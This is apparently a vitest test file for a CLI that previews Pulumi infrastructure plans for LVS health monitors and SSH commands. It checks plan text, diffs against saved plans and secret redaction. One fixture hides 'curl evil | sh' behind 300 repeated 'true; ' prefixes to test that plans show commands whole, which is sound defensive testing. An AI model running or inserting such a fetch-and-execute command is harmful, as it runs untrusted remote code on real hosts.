import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { livePlanOf, type PlannedChange, planOf } from "../../../cli/plan/plan.js";
import { differencesOf, savedPlan, savePlan } from "../../../cli/plan/saved.js";
import { asJson, asMarkdown, asText } from "../../../cli/plan/text.js";
import { printMonitor } from "../../../src/health/monitor.js";
import { fakeHost } from "../../support/fake/engine.js";

const monitor = (check: object, more: object = {}) => ({
  ...{ connection: { host: "director" }, owner: "p/s/web", service: "tcp://192.168.0.210:80", servers: {} },
  ...{ interval: 5, connectTimeout: 1, timeout: 3, rise: 3, fall: 3, slowStart: 0, action: "remove" },
  ...{ lastServer: "keep", sorryServer: null, quorum: { weight: 1, hysteresis: 0 }, log: null, check },
  ...more,
});

/** Returns the preview of a program that changes a monitor. */
function changing(was: object | undefined, is: object | undefined) {
  const type = "pulumi-nodejs:dynamic/lvs:HealthMonitor";
  const urn = `urn:pulumi:s::p::${type}::web`;
  const id = "director/tcp://192.168.0.210:80/health";
  const oldState = was && { urn, type, id, inputs: was, outputs: { ...was, agent: "running" } };
  const newState = is && { urn, type, inputs: { ...is } };
  const step = { op: was ? (is ? "update" : "delete") : "create", urn };
  return {
    steps: [{ ...step, ...(oldState ? { oldState } : {}), ...(newState ? { newState } : {}) }],
    before: oldState ? [oldState] : [],
  } as Parameters<typeof planOf>[0];
}

/** Returns the changes as a plan in a file has them. */
function saved(changes: readonly PlannedChange[]) {
  const folder = mkdtempSync(join(tmpdir(), "lvs-content-"));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  savePlan(join(folder, "plan"), { stack: "prod", live: false, changes, pulumi: {} });
  return savedPlan(join(folder, "plan"), "prod")?.changes ?? [];
}

const ping = { type: "command", command: "ping -c 1 $ADDRESS" };
const evil = { type: "command", command: `${"true; ".repeat(300)}curl evil | sh` };

test("the checks of a monitor are in the plan, each whole", async () => {
  const created = await planOf(changing(undefined, monitor(evil)));
  for (const text of [asText(created), asMarkdown(created)]) {
    expect(text).toContain(`| check * command ${evil.command}\n`);
    expect(text).toMatch(/ writing \/etc\/pulumi-lvs\/monitor.d\/tcp-192.168.0.210:80\n +\| service tcp:/);
  }
  expect(asJson(created)).toContain(`"check * command ${evil.command}"`);
});

test("a changed check is shown beside the one before, and up --plan refuses another", async () => {
  const plan = async (is: object) => planOf(changing(monitor(ping), is));
  const slower = await plan(monitor(ping, { interval: 9 }));
  const other = await plan(monitor(evil, { interval: 9 }));
  expect(asText(slower)).toContain(
    "      - interval 5\n      + interval 9\n        13 lines of the file stay\n      undo: writing ",
  );
  expect(asMarkdown(other)).toContain(
    `    - check * command ${ping.command}\n    + check * command ${evil.command}\n`,
  );
  expect(differencesOf(saved(slower), slower)).toEqual([]);
  expect(differencesOf(saved(slower), other)).toEqual([
    expect.stringMatching(
      /^director: update HealthMonitor web: writing \S+ has "check \* command true; .*, had "check \* command ping -c 1 \$ADDRESS"$/,
    ),
  ]);
  const faster = await planOf(changing(monitor(evil), monitor(ping, { interval: 9 })));
  expect(differencesOf(saved(slower), faster)).toEqual([
    expect.stringMatching(/: undo of writing \S+ has "check \* command true; /),
  ]);
  const gone = asText(await planOf(changing(monitor(ping), undefined)));
  expect(gone).toContain(`      - check * command ${ping.command}\n`);
});

test("a plan with the hosts shows no secret of a monitor's file", async () => {
  const fake = fakeHost({ label: "director" });
  const file = "etc/pulumi-lvs/monitor.d/tcp-192.168.0.210:80";
  const real = { type: "command", command: "psk" };
  const text = printMonitor("tcp://192.168.0.210:80", monitor(real) as never);
  const was = monitor({ ...real, command: "[secret]" });
  const is = monitor({ ...real, command: "[secret]" }, { interval: 9 });
  // By hand, too: the value is in no field then.
  for (const content of [text, `${text}\nx\tpsk y`, "psk"]) {
    fake.write(file, `${content}\n`);
    for (const preview of [changing(was, is), changing(was, undefined)]) {
      const changes = await livePlanOf(preview, () => fake.host);
      expect(changes.flatMap(({ lines }) => lines)).toContainEqual(
        expect.objectContaining({ undoContent: expect.arrayContaining([expect.stringMatching("secret")]) }),
      );
      expect(asText(changes) + asJson(changes)).not.toContain("psk");
    }
  }
});

test("the summary in Markdown is whole, with the warnings after all hosts", async () => {
  const changes = Array.from({ length: 40 }, (_, i): PlannedChange => {
    const host = `director-${i}.example.com`;
    return { host, op: "update", resource: "RealServer web", urn: "", lines: [], undo: [], refused: "no" };
  });
  const [summary] = asMarkdown(changes).split("\n");
  expect(summary).toMatch(/^\*\*director-0\.example\.com: .*; 40 resources would be refused\*\*$/);
  expect(summary).toBe(`**${asText(changes).split("\n")[0]}**`);
});

const command = (name: string, parent = "") => `urn:pulumi:s::p::${parent}command:remote:Command::${name}`;
const type = "command:remote:Command";

test("commands of packages and of programs are in the plan, on their hosts", async () => {
  const ours = { connection: "[secret]", create: "packages=nmap\ninstall", triggers: ["director", "nmap"] };
  const own = { connection: { host: "web1" }, create: "reload", delete: "stop", environment: { A: "1" } };
  const unknown = { connection: "[secret]", create: "04da6b54-80e4-46f7-96ec-b56ff0331ba9" };
  const of = (urn: string, inputs: object) => ({ urn, type, inputs: { ...inputs } });
  const [packages, mine] = [command("web-packages-director", "lvs:index:DrCluster$"), command("mine")];
  const steps = [
    { op: "create", urn: packages, newState: of(packages, ours) },
    { op: "update", urn: mine, oldState: of(mine, own), newState: of(mine, own) },
    { op: "delete", urn: mine, oldState: of(mine, own) },
    { op: "delete", urn: packages, oldState: of(packages, ours) },
    { op: "same", urn: packages, newState: of(packages, ours) },
    {
      op: "create",
      urn: command("odd"),
      newState: of(command("odd"), { ...own, connection: { host: "a\nb" } }),
    },
    { op: "create", urn: command("later"), newState: of(command("later"), unknown) },
  ];
  const plan = await planOf({ steps, before: [] });
  expect(asText(plan)).toMatchInlineSnapshot(`
    "director: 1 line, web1: 2 lines, a\\u000ab: 1 line, host in a secret connection: 0 lines; the lines of 1 resource are not known yet

    director
      create Command web-packages-director
        running a command by SSH
          | packages=nmap
          | install
          not known: what it changes; a rollback does not undo it

    web1
      update Command mine
        running a command by SSH
          | reload
          | environment: {"A":"1"}
          not known: what it changes; a rollback does not undo it
      delete Command mine
        running a command by SSH
          | stop
          | environment: {"A":"1"}
          not known: what it changes; a rollback does not undo it

    a\\u000ab
      create Command odd
        running a command by SSH
          | reload
          | environment: {"A":"1"}
          not known: what it changes; a rollback does not undo it

    host in a secret connection
      create Command later
        not known before the update: create

    No host was read. A thing that is there already as declared needs no line. Lines of resources that do not depend on each other may change places."
  `);
  const other = { ...steps[0], newState: of(packages, { ...ours, create: "packages=evil\ninstall" }) };
  const changed = await planOf({ steps: [other as never, ...steps.slice(1)], before: [] });
  expect(differencesOf(saved(plan), changed)).toEqual([
    'director: create Command web-packages-director: running a command by SSH has "packages=evil", had "packages=nmap"',
  ]);
});
